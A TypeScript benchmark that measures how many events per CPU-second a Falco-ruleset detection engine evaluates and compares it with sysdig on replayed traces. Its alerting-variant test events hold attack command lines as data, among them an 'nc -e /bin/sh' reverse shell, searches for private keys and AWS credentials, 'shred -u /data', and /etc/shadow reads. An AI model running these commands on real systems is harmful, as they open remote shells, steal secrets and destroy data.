/**
 * bench:rules — events/s per core through Falco's stable ruleset.
 *
 * 1. A realistic synthetic mix (mostly benign opens, execs and connects, plus syscalls no
 *    rule watches) through RuleSet.evaluate() on one core, as JSON-parsed events and as
 *    events built by the sensor's own EventBuilder (bench/sensor-mix.ts); floor: 1M events/s.
 * 2. A reference trace replayed through `sysdig -r -j` into the event model, through our
 *    engine, against sysdig 0.29.3 filtering the same events with the same expanded stable
 *    conditions (those its older grammar accepts, OR-ed) in the same run. The trace is
 *    small, so the bench writes a copy whose event blocks repeat REPEAT times (scap files
 *    are pcapng-like blocks; type 0x216 = event) and takes sysdig's per-event time as
 *    (time on the long copy − time on the original) / extra events: its parsing +
 *    filtering per event, without process start-up. Goal: ≥ 5×.
 *
 * All rates are per CPU-second (process.cpuUsage() for us, bash `times` for sysdig), so a
 * busy shared machine slows the wall clock but not the comparison.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';
import { fieldsOf } from '../src/runtime/rules/ast.js';
import { loadRuleFiles, RuleSet } from '../src/runtime/rules/index.js';
import { readScap } from '../src/runtime/replay/index.js';
import type { RuntimeEvent } from '../src/runtime/event.js';
import { rng } from '../test/helpers/random.js';
import { sensorBuiltMix } from './sensor-mix.js';
import { floorDisagreements, handWrittenFloor } from './runtime-floor.js';

const REF = process.env.GATEHOUSE_FALCO_REF ?? fileURLToPath(new URL('../../shared/reference/falco', import.meta.url));
const STABLE = `${REF}/rules/falco_rules.yaml`;
const FLOOR = 1_000_000;


function syntheticMix(n: number): RuntimeEvent[] {
  const r = rng(7);
  const pick = <T>(a: T[]): T => a[Math.floor(r() * a.length)]!;
  const procs = ['nginx', 'node', 'java', 'python3', 'postgres', 'redis-server', 'envoy', 'sh', 'bash', 'curl'];
  const parents = ['containerd-shim', 'runc', 'systemd', 'bash', 'node', 'supervisord'];
  const files = ['/var/log/nginx/access.log', '/usr/lib/x86_64-linux-gnu/libc.so.6', '/etc/hosts', '/etc/resolv.conf', '/tmp/cache.db',
    '/app/server.js', '/proc/self/status', '/dev/null', '/etc/ssl/certs/ca-certificates.crt', '/var/lib/postgresql/data/base/1/1259', '/etc/passwd'];
  const bins = ['ls', 'cat', 'grep', 'node', 'python3', 'sed', 'awk', 'date', 'sleep', 'curl'];
  const other = ['read', 'write', 'close', 'fstat', 'mmap', 'futex', 'epoll_wait', 'sendto', 'recvfrom', 'clock_gettime'];
  const out: RuntimeEvent[] = [];
  for (let i = 0; i < n; i++) {
    const container = r() < 0.8;
    const base: RuntimeEvent = {
      'evt.num': i, 'evt.dir': '<', 'proc.name': pick(procs), 'proc.pname': pick(parents), 'proc.pid': 1000 + (i % 500),
      'proc.cmdline': 'node /app/server.js --port 8080', 'proc.exepath': '/usr/bin/node', 'proc.tty': 0, 'user.name': 'app', 'user.uid': 1000,
      'user.loginuid': -1, 'proc.aname': [pick(parents), 'containerd-shim', 'systemd'],
      'container.id': container ? 'a1b2c3d4e5f6' : 'host', 'container.image': container ? 'docker.io/library/node:20' : undefined,
      'container.name': container ? 'web' : 'host',
    };
    const x = r();
    if (x < 0.45) {
      const write = r() < 0.3;
      const name = pick(files);
      out.push({ ...base, 'evt.type': pick(['open', 'openat', 'openat']), 'fd.name': name, 'fd.typechar': 'f', 'fd.num': 3 + (i % 20),
        'evt.is_open_read': !write, 'evt.is_open_write': write, 'evt.arg.flags': write ? 'O_WRONLY|O_CREAT' : 'O_RDONLY', 'evt.res': 'SUCCESS', 'evt.rawres': 3 });
    } else if (x < 0.6) {
      const bin = pick(bins);
      out.push({ ...base, 'evt.type': 'execve', 'proc.name': bin, 'proc.exepath': `/usr/bin/${bin}`, 'proc.exe': bin, 'proc.cmdline': `${bin} -x /tmp/in`,
        'proc.args': '-x /tmp/in', 'evt.arg.res': '0', 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'proc.pcmdline': 'node /app/server.js' });
    } else if (x < 0.75) {
      const port = pick([443, 5432, 6379, 80, 53, 8080]);
      out.push({ ...base, 'evt.type': 'connect', 'fd.typechar': '4', 'fd.type': 'ipv4', 'fd.l4proto': port === 53 ? 'udp' : 'tcp', 'fd.sip': pick(['10.0.3.7', '172.217.1.4', '10.96.0.1']),
        'fd.sport': port, 'fd.rport': port, 'fd.cip': '10.0.0.5', 'fd.name': `10.0.0.5:43210->10.0.3.7:${port}`, 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'fd.num': 7 });
    } else {
      out.push({ ...base, 'evt.type': pick(other), 'fd.num': 5, 'evt.res': 'SUCCESS' });
    }
  }
  return out;
}

/** CPU milliseconds (user + system) this process has used: per-core rates on a shared machine. */
function cpuMs(): number {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
}

function rate(rs: RuleSet, events: RuntimeEvent[], minMs = 1500): { perSec: number; alerts: number } {
  // Warm-up, then repeat passes until minMs of CPU time is used.
  for (let i = 0; i < Math.min(events.length, 50_000); i++) rs.evaluate(events[i]!);
  let n = 0;
  let alerts = 0;
  const t0 = cpuMs();
  let ms = 0;
  do {
    for (let i = 0; i < events.length; i++) alerts += rs.evaluate(events[i]!).length;
    n += events.length;
    ms = cpuMs() - t0;
  } while (ms < minMs);
  return { perSec: (n / ms) * 1000, alerts };
}

function rateOf(fn: (ev: RuntimeEvent) => number, events: RuntimeEvent[], minMs: number): { perSec: number; alerts: number } {
  for (let i = 0; i < Math.min(events.length, 50_000); i++) fn(events[i]!);
  let n = 0;
  let alerts = 0;
  const t0 = cpuMs();
  let ms = 0;
  do {
    for (let i = 0; i < events.length; i++) alerts += fn(events[i]!);
    n += events.length;
    ms = cpuMs() - t0;
  } while (ms < minMs);
  return { perSec: (n / ms) * 1000, alerts };
}

/** Copies of some mix events changed so that stable rules fire (to check the floor where it alerts). */
function alertingVariants(events: RuntimeEvent[]): RuntimeEvent[] {
  const changes: Array<Partial<RuntimeEvent>> = [
    { 'fd.name': '/etc/shadow', 'fd.directory': '/etc', 'fd.filename': 'shadow', 'evt.is_open_read': true, 'evt.is_open_write': false },
    { 'fd.name': '/etc/pam.d/common-auth', 'fd.directory': '/etc/pam.d', 'fd.filename': 'common-auth', 'evt.is_open_read': true, 'evt.is_open_write': false, 'proc.name': 'nginx' },
    { 'fd.name': '/etc/shadow', 'fd.nameraw': '../../etc/shadow', 'fd.directory': '/etc', 'evt.is_open_read': true, 'evt.is_open_write': false },
    { 'fd.name': '/var/log/syslog', 'fd.directory': '/var/log', 'fd.filename': 'syslog', 'evt.is_open_read': false, 'evt.is_open_write': true, 'evt.arg.flags': 'O_WRONLY|O_TRUNC' },
    { 'fd.name': '/sys/fs/cgroup/release_agent', 'evt.is_open_read': false, 'evt.is_open_write': true, 'user.uid': 0, 'thread.cap_effective': 'CAP_SYS_ADMIN CAP_DAC_OVERRIDE' },
    { 'proc.name': 'sh', 'proc.pname': 'nginx', 'proc.aname': ['nginx', 'containerd-shim'] },
    { 'proc.name': 'bash', 'proc.tty': 34816, 'proc.pname': 'containerd-shim' },
    { 'proc.name': 'nc', 'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444' },
    { 'proc.name': 'grep', 'proc.args': '-r BEGIN RSA PRIVATE /' },
    { 'proc.name': 'find', 'proc.args': '/ -name credentials -path *.aws/credentials' },
    { 'proc.name': 'shred', 'proc.args': '-u /data' },
    { 'proc.exe': '/dev/shm/x', 'proc.name': 'x' },
    { 'proc.is_exe_from_memfd': true },
    { 'proc.is_exe_upper_layer': true },
    { 'user.name': 'www-data', 'proc.name': 'login' },
    { 'proc.exe': '/usr/bin/ssh', 'fd.sport': 443, 'fd.sip': '172.217.1.4', 'fd.l4proto': 'tcp' },
  ];
  const out: RuntimeEvent[] = [];
  for (let i = 0; i < events.length; i++) out.push(Object.assign({}, events[i]!, changes[i % changes.length]!) as RuntimeEvent);
  return out;
}

/** sysdig's CPU time (user + system, from bash's `times`), best of `runs`. */
function timeSysdig(trace: string, filter: string, runs = 5): number {
  let best = Infinity;
  for (let i = 0; i < runs; i++) {
    const r = spawnSync('bash', ['-c', 'sysdig -r "$1" -p %evt.num "$2" >/dev/null || exit 3; times', 'bench', trace, filter], { encoding: 'utf8' });
    if (r.status !== 0) throw new Error(`sysdig failed: ${r.stderr.split('\n')[0]}`);
    const m = /\n(\d+)m([\d.]+)s (\d+)m([\d.]+)s\s*$/.exec(r.stdout);
    if (!m) throw new Error(`cannot read sysdig CPU time from: ${r.stdout}`);
    best = Math.min(best, (Number(m[1]) * 60 + Number(m[2]) + Number(m[3]) * 60 + Number(m[4])) * 1000);
  }
  return best;
}

const fmt = (n: number) => `${(n / 1e6).toFixed(2)}M`;
const REPEAT = 40;
const EVENT_BLOCK = 0x216;

/** The trace with its event blocks repeated; returns the path (in a temp dir). */
function longTrace(trace: string, dir: string): string {
  let buf = readFileSync(trace);
  if (buf[0] === 0x1f && buf[1] === 0x8b) buf = gunzipSync(buf);
  const blocks: Array<{ type: number; data: Buffer }> = [];
  for (let off = 0; off + 8 <= buf.length; ) {
    const type = buf.readUInt32LE(off);
    const len = buf.readUInt32LE(off + 4);
    if (len < 12 || off + len > buf.length) break;
    blocks.push({ type, data: buf.subarray(off, off + len) });
    off += len;
  }
  // Older captures use other event block versions (0x205, 0x208, …): take the commonest type.
  const freq = new Map<number, number>();
  for (const b of blocks) freq.set(b.type, (freq.get(b.type) ?? 0) + 1);
  const eventType = freq.has(EVENT_BLOCK) ? EVENT_BLOCK : [...freq].sort((a, b) => b[1] - a[1])[0]![0];
  const events = blocks.filter((b) => b.type === eventType).map((b) => b.data);
  const once = Buffer.concat(events);
  const out = join(dir, 'long.scap');
  writeFileSync(out, Buffer.concat([buf, ...Array<Buffer>(REPEAT).fill(once)]));
  return out;
}

function countSysdig(trace: string): number {
  const r = spawnSync('sysdig', ['-r', trace, '-p', '%evt.num'], { encoding: 'utf8', maxBuffer: 256 * 1024 * 1024 });
  return r.stdout.split('\n').filter(Boolean).length;
}

async function main(): Promise<void> {
  const loaded = loadRuleFiles([STABLE]);
  const rs = new RuleSet(loaded);
  // The mix twice: as JSON-parsed objects (JSONL replay; V8 fast-mode objects: the engine's
  // best case) and as the sensor delivers it (raw records through its EventBuilder: ~70-key
  // dictionary-mode objects, and no unwatched syscalls, which the kernel side filters out).
  const n = Number(process.env.GATEHOUSE_BENCH_EVENTS ?? 5_000);
  const parsed = syntheticMix(n).map((e) => JSON.parse(JSON.stringify(e)) as RuntimeEvent);
  const built = sensorBuiltMix(n);
  for (const [label, mix] of [['JSON-parsed events', parsed], ['events built by the sensor (opens, execs, connects)', built]] as const) {
    const m = rate(rs, mix);
    console.log(`stable ruleset (${rs.rules.length} rules), synthetic mix of ${mix.length} ${label}: ${fmt(m.perSec)} events/s per CPU-second (${m.alerts} alerts) — goal ${fmt(FLOOR)}: ${(m.perSec / FLOOR).toFixed(2)}×`);
  }
  // The floor, measured in the same run on the same sensor-built events: the same stable
  // conditions written by hand as one JS function (bench/runtime-floor.ts). The engine side is
  // a rule set loaded afresh that only ever sees sensor-built events, as in the sensor (the
  // one above also saw JSON-parsed objects, whose other shapes leave its generated code
  // polymorphic). Both are checked afterwards to pick the same rule on every event (and on
  // alerting variants of them).
  const rsSensor = new RuleSet(loadRuleFiles([STABLE]));
  const floor = handWrittenFloor(rsSensor);
  // interleaved, best of three each: the shared machine's noise hits both sides alike
  let best = { engine: 0, floor: 0 };
  for (let k = 0; k < 3; k++) {
    const e = rate(rsSensor, built, 700).perSec;
    const f = rateOf((ev) => (floor.first(ev) === null ? 0 : 1), built, 700).perSec;
    best = { engine: Math.max(best.engine, e), floor: Math.max(best.floor, f) };
  }
  const wrong = floorDisagreements(rsSensor, floor, [...built, ...alertingVariants(built)]);
  if (wrong.length) throw new Error(`the hand-written floor disagrees with the engine:\n${wrong.join('\n')}`);
  console.log(`sensor-built mix, same run: engine ${fmt(best.engine)} events/s per CPU-second, hand-written floor ${fmt(best.floor)} → engine at ${(best.engine / best.floor).toFixed(2)}× the floor; engine ${best.engine >= FLOOR ? 'meets' : 'does NOT meet'} the ${fmt(FLOOR)} goal (${(best.engine / FLOOR).toFixed(2)}×)`);

  const sysdigOk = spawnSync('sysdig', ['--version'], { stdio: 'ignore' }).status === 0;
  if (!sysdigOk || !existsSync(`${REF}/traces`)) {
    console.log('sysdig or the reference traces are missing: peer comparison skipped');
    return;
  }
  const sysdigFields = new Set(spawnSync('sysdig', ['-l'], { encoding: 'utf8' }).stdout.match(/^[a-z0-9_]+(?:\.[a-z0-9_]+)+/gm) ?? []);
  const compatible = rs.rules.filter((r) => {
    const text = rs.expandedCondition(r.name)!;
    if (/ (==|bcontains|regex|intersects|iglob|bstartswith) |\b(tolower|toupper|b64|basename|len)\(|in \(\)/.test(text)) return false;
    return fieldsOf(r.expr).every((f) => f.kind === 'field' && sysdigFields.has(f.name) && !/^(proc\.aname|container\.image\.repository|fd\.sip\.name|evt\.is_open_exec)$/.test(f.name));
  });
  const filter = `(${compatible.map((r) => rs.expandedCondition(r.name)).join(' or ')})`;
  const sub = new RuleSet(loaded, { disableRules: rs.rules.filter((r) => !compatible.includes(r)).map((r) => r.name) });
  console.log(`peer: ${compatible.length} of ${rs.rules.length} stable rules use only what sysdig 0.29.3 parses; both sides run those`);
  const dir = mkdtempSync(join(tmpdir(), 'gatehouse-bench-'));
  try {
    for (const name of ['run_as_user_0_container', 'curl_google']) {
      const trace = `${REF}/traces/${name}.scap`;
      const events: RuntimeEvent[] = [];
      for await (const ev of readScap(trace)) events.push(ev);
      const ours = rate(sub, events, 1000);
      const long = longTrace(trace, dir);
      const extra = countSysdig(long) - countSysdig(trace);
      const tLong = timeSysdig(long, filter, 3);
      const tShort = timeSysdig(trace, filter, 5);
      const sysdigRate = (extra / Math.max(tLong - tShort, 0.001)) * 1000;
      console.log(`${name}: gatehouse ${fmt(ours.perSec)} events/s (${events.length} events, ${ours.alerts} alerts); sysdig ${fmt(sysdigRate)} events/s (${extra} extra events in ${(tLong - tShort).toFixed(0)} CPU ms) → ${(ours.perSec / sysdigRate).toFixed(1)}× sysdig (goal ≥ 5×)`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

await main();
